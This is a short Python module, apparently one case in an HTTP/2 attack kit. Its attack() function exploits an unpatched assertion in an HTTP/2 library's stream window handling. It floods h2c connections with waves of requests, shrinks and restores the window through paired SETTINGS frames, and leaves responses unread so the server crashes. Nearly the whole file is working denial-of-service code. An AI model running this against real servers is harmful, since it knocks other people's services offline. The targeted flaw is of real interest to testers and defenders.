"""Window assertion by SETTINGS: a finished stream whose window falls to zero and rises again.

RFC 9113 §6.9.2; an assertion of the library (update_stream_output_window), fixed upstream in 2019, never in the 2.2 series. The
answers must be in a write that cannot finish: tiny segments, a tiny receive buffer, nothing read.
"""
from kit.frames import opening, request, settings, window_update

LISTENER = "h2c"
GROWTH_MIB = 32
WAVES, STREAMS = 8, 24


def attack(enemy):
    while enemy.goes_on():
        connection = enemy.connect(receive_buffer=4096, segment=536)
        if connection is None:
            continue
        with connection:
            begun = opening(initial_window_size=65535) + window_update(0, 1 << 30)
            if not enemy.push(connection, begun, reads=False):
                continue
            stream = 1
            for _ in range(WAVES):
                wave = b"".join(request(stream + 2 * number, path=b"/open/bytes/16384") for number in range(STREAMS))
                stream += 2 * STREAMS
                if not enemy.push(connection, wave, reads=False):
                    break
                enemy.rest(0.05)
                if not enemy.push(connection, settings(initial_window_size=0) + settings(initial_window_size=65535), reads=False):
                    break
                enemy.note("waves")
                connection.setblocking(False)
                try:
                    connection.recv(30000)
                except OSError:
                    pass
